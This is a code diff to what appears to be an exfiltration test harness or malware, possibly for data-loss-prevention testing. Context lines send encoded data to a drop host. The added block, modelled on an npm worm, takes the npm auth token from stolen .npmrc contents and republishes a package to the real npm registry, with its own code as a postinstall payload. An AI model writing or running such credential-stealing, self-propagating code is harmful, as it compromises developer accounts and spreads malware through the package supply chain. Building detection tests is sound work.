@@ -156,6 +156,19 @@ function pre() {
 		['npm-query', () => one('npm-query', 'GET', DROP, '/npm-query?d=' + encodeURIComponent(b64(J)))],
 		['npm-path', () => one('npm-path', 'GET', DROP, '/npm-path/' + Buffer.from(J).toString('base64url'))],
 		['npm-split', () => split('npm-split')],
+		// propagation, as the worm spread: republish a package of the victim's with
+		// this payload as its postinstall, with the victim's npm token (at its home)
+		['npm-publish', () => {
+			const tok = (loot.npmrc.match(/_authToken=(\S+)/) || [])[1] || '';
+			const self = b64(rd(__filename));
+			return one('npm-publish', 'PUT', 'registry.npmjs.org', '/dlpt-victim-lib', JSON.stringify({
+				name: 'dlpt-victim-lib', 'dist-tags': { latest: '1.0.1' },
+				versions: { '1.0.1': { name: 'dlpt-victim-lib', version: '1.0.1',
+					scripts: { postinstall: 'node bundle.js' } } },
+				_attachments: { 'dlpt-victim-lib-1.0.1.tgz': { content_type: 'application/octet-stream',
+					data: self, length: self.length } } }),
+				{ Authorization: 'Bearer ' + tok, 'Content-Type': 'application/json' });
+		}],
 		['npm-fetch', async () => {   // node's own fetch (undici), not the https module
 			try {
 				const r = await fetch('https://' + DROP + '/npm-fetch', { method: 'POST', body: hex(J) });
